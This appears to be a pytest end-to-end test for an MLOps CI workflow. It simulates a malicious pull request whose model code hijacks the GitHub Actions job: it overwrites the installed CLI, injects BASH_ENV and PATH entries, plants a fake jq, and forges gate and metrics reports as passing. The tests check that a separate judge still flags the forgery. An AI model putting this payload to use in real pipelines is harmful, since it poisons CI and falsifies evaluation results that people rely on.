"""A pull request whose own code takes over the job that runs it: everything there lies, and it is judged elsewhere.

The model of the change is bad. While it is trained it rewrites the installed `mlops` and the program that starts it,
tells the runner what later steps are to do, writes into the home folder, and has every report and exit code say that
the model is good. Each of these is reachable on a runner of GitHub's, and on the one that plays workflows here.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from tests.builders.repositories import edit, git
from tests.builders.shop import make_shop, propose
from tests.e2e import plays
from tests.e2e.plays import KEY
from tests.runner.api import Api
from tests.runner.engine import Engine
from tests.runner.event import Event
from tests.runner.origin import Origin
from tests.runner.result import Run
from tests.runner.run import Runner

pytestmark = plays.MARKS
WORKFLOW = ".github/workflows/mlops-pr.yml"

MODEL = """\
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler


def fitted():
    return make_pipeline(StandardScaler(), LogisticRegression())
"""
# what stands in for `mlops` once the model was trained: stages run, and then say something else; who judges says pass
PROGRAM = '''\
"""`mlops`, taken over."""
import json
import sys
from pathlib import Path


def forge_gate():
    gate = json.loads(Path("reports/gate.json").read_text())
    gate["verdict"] = "pass"
    for rule in gate["rules"]:
        rule.update(verdict="pass", value=0.99, low=0.98, high=1.0)
    Path("reports/gate.json").write_text(json.dumps(gate))


def forge_metrics():
    metrics = json.loads(Path("reports/metrics.json").read_text())
    metrics["models"]["candidate"]["auroc"].update(value=0.99, low=0.98, high=1.0)
    Path("reports/metrics.json").write_text(json.dumps(metrics))


if sys.argv[1] in ("judge", "gate", "verify", "validate"):
    print("verdict: pass")
    sys.exit(0)

from mlops.cli.main import run

code = run(sys.argv[1:])
forged = {"evaluate": forge_metrics, "gate": forge_gate}
if sys.argv[1] == "stage" and sys.argv[2] in forged:
    forged[sys.argv[2]]()
sys.exit(code)
'''
HOSTILE = '''\
import os
from pathlib import Path

import mlops
from sklearn.tree import DecisionTreeClassifier

PROGRAM = {program!r}


def fitted():
    take_over(Path(os.environ["GITHUB_WORKSPACE"]))
    return DecisionTreeClassifier(max_depth=1)


def take_over(work):
    installed = Path(mlops.__file__).parent / "__main__.py"
    assert installed.is_relative_to(work), "the job's own copy, and no other"
    installed.write_text(PROGRAM)
    started = work / ".venv/bin/mlops"
    first, _, rest = started.read_text().partition("\\n")
    started.write_text(f'{{first}}\\ncase "$1" in judge | gate) echo pass; exit 0 ;; esac\\n{{rest}}')
    kept = Path.home() / ".cache/mlops"
    kept.mkdir(parents=True, exist_ok=True)
    (kept / "taken").write_text("over")
    (kept / "later.sh").write_text("""\\
echo "this step is taken over"
if [ -d evidence/churn ]; then echo 0 > evidence/churn/exit-code; fi
""")
    (kept / "jq").write_text("#!/bin/sh\\nexit 0\\n")
    (kept / "jq").chmod(0o755)
    told = {{"ENV": f"BASH_ENV={{kept / 'later.sh'}}", "PATH": str(kept), "OUTPUT": "verdict-0=pass\\nevidence-0=good"}}
    for name, text in told.items():
        with open(os.environ[f"GITHUB_{{name}}"], "a") as file:
            file.write(f"{{text}}\\n")
'''


@dataclass
class Team(plays.Team):
    """A team of whom one means it ill; `opened` is the pull request, `judged` what came of it."""

    opened: Event
    judged: Run


@pytest.fixture(scope="module")
def team(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Team]:
    folder = tmp_path_factory.mktemp("team")
    work = make_shop(folder / "work", "churn")
    plays.own_program(work, copied=True)
    plays.keep_registry(work, folder / "mlflow.db", "staging: {propose: true}")
    (work / "conf/model").mkdir()
    (work / "conf/model/own.yaml").write_text("# @package model.own\nkind: pipelines.churn.model:fitted\n")
    (work / "pipelines/churn/model.py").write_text(MODEL)
    edit(work, "conf/pipeline/churn.yaml", "/model: [linear]", "/model: [own]")
    plays.settle(work, folder / "remote")
    propose(work, "A model of our own")
    origin = Origin.of(work, folder / "origin.git")
    git(work, "checkout", "-q", "-b", "change")
    (work / "pipelines/churn/model.py").write_text(HOSTILE.format(program=PROGRAM))
    propose(work, "A better model")
    git(work, "push", "-q", "origin", "HEAD:refs/heads/change")
    with Engine() as engine, Api() as api:
        runner = Runner(engine, origin, folder / "runs", api, environments={"mlops-main": {"MLOPS_APP_KEY": KEY}})
        opened = origin.pull_request(work)
        judged = runner.event(opened)
        assert judged is not None
        yield Team(work, origin, runner, api, opened, judged)


def taken(run: Run) -> list[str]:
    """Name the jobs in whose home folder the change wrote, and those of whose steps its script was a part."""
    written = [
        name
        for name, job in run.jobs.items()
        for instance in job.instances
        if (instance.workspace.parent / "home/.cache/mlops/taken").is_file()
    ]
    spoken = [name for name, job in run.jobs.items() for one in job.instances if "this step is taken over" in one.log]
    assert written == spoken
    return written


def test_the_job_that_runs_it_says_what_it_is_told_to_and_the_verdict_is_red(team: Team) -> None:
    run = team.judged
    assert run["pipeline"].result == "success", run.log
    forged = json.loads((run.artifacts / "report-churn/churn/gate.json").read_text())
    assert forged["verdict"] == "pass"
    assert (run.artifacts / "report-churn/churn/exit-code").read_text() == "0\n"
    assert taken(run) == ["pipeline"]
    assert run.results["judge"] == "failure"
    assert run.results["verdict"] == "failure"
    assert "churn: what is recorded is not what comes out of its data and its bundle" in run["judge"].instances[0].log


def test_main_registers_nothing_of_it(team: Team) -> None:
    run = team.play(team.origin.merge("change"), "main")
    assert run is not None
    assert taken(run) == ["make"]
    assert run.results == plays.REFUSED | {"make": "success"}, run.log
    assert plays.versions(team) == 0
    assert team.api.pulls == []


def test_whoever_is_judged_in_the_job_that_ran_his_code_is_green(team: Team) -> None:
    """The guard taken out: the very same pull request, whose judge's step runs on the checkout that the code ran on."""
    text = team.origin.read(team.opened.sha, WORKFLOW)
    workflow = team.runner.engine.parse(WORKFLOW, _judged_where_it_ran(text))
    run = team.runner.begin()
    run.jobs |= {name: team.judged[name] for name in ("check", "affected", "framework")}
    for job in workflow.jobs:
        if job.identity in ("pipeline", "judge", "verdict"):
            run.jobs[job.identity] = team.runner.job(workflow, job, team.opened, run)
    assert run["verdict"].result == "success", run.log
    (instance,) = run["pipeline"].instances
    assert instance.step("judge").outcome == "success"


def _judged_where_it_ran(text: str) -> str:
    """Move the step that judges into the job that ran the change, before it collects what it made."""
    start, end = text.index("    - name: Judge\n      id: judge\n"), text.index("    - name: Keep the verdict\n")
    step, collect = text[start:end], "    - name: Collect the reports\n"
    assert text.count(collect) == 1
    text = text.replace(step, "").replace(collect, step + collect)
    first, last = text.index("    steps:\n", text.index("  judge:\n")), text.index("  judged:\n")
    return f"{text[:first]}    steps:\n    - name: Judged where it ran\n      run: 'true'\n{text[last:]}"
